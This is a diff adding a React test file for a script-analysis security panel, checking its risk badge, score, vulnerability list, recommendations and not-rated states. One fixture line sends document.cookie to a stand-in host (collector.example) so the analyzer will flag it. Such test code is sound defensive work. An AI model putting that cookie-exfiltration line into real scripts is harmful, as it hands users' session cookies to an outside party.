@@ -1,0 +1,65 @@
+// @vitest-environment happy-dom
+
+import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
+import { cleanup, fireEvent, render, screen, within } from "@testing-library/react";
+import { afterEach, expect, it, vi } from "vitest";
+import type { Rated } from "./live-analysis/use-live-analysis.ts";
+import { SecurityPanel } from "./security-panel.tsx";
+
+afterEach(cleanup);
+
+/** The panel after the real analysis of a script. */
+function show(settled: Rated, checking = false) {
+	const onLine = vi.fn();
+	render(<SecurityPanel analysis={{ now: settled, settled, checking }} onLine={onLine} />);
+	return onLine;
+}
+const rated = (code: string): Rated => ({ status: "checked", result: analyzeScript({ code }) });
+const panel = () => screen.getByRole("region", { name: "Security check" });
+
+it("shows badge, score out of 100, summary, vulnerabilities with their line, and recommendations", () => {
+	const settled = rated('const all = 1;\nfetch("https://collector.example/?" + document.cookie);');
+	if (settled?.status !== "checked") throw new Error("not checked");
+	const { score, summary, vulnerabilities, recommendations } = settled.result;
+	const onLine = show(settled);
+	expect(vulnerabilities.length).toBeGreaterThan(0);
+	expect(recommendations.length).toBeGreaterThan(0);
+	within(panel()).getByText("High Risk");
+	within(panel()).getByText(`Score ${score} out of 100`);
+	within(panel()).getByText(summary);
+	const severities = { critical: "Critical", high: "High", medium: "Medium", low: "Low" };
+	const items = panel().querySelectorAll("ol > li");
+	expect(items).toHaveLength(vulnerabilities.length);
+	for (const [index, { severity, description, line }] of vulnerabilities.entries()) {
+		const item = items[index]?.textContent ?? "";
+		expect(item).toContain(severities[severity]);
+		expect(item).toContain(description);
+		expect(item).toContain(`Line ${line}`);
+	}
+	for (const recommendation of recommendations) within(panel()).getByText(recommendation);
+	fireEvent.click(within(panel()).getAllByRole("button", { name: "Go to line 2 in the editor" })[0] ?? document.body);
+	expect(onLine).toHaveBeenCalledWith(2);
+});
+
+it("shows a harmless script as Low Risk without findings", () => {
+	show(rated("document.title = document.title.trim();"));
+	within(panel()).getByText("Low Risk");
+	within(panel()).getByText("Score 100 out of 100");
+	within(panel()).getByText("No findings.");
+});
+
+it("gives no score and no color to what was not rated", () => {
+	show(rated("let = ("));
+	within(panel()).getByText("Not rated");
+	expect(panel().textContent).not.toMatch(/Score|Low Risk/);
+	cleanup();
+	show({ status: "not-rated", reason: "took-too-long" });
+	within(panel()).getByText("Not rated");
+	within(panel()).getByText(/The check took longer than 3 seconds and was stopped/);
+	cleanup();
+	show(null, true);
+	within(panel()).getByText("Checking…");
+	cleanup();
+	show(null);
+	within(panel()).getByText("Nothing to check yet.");
+});
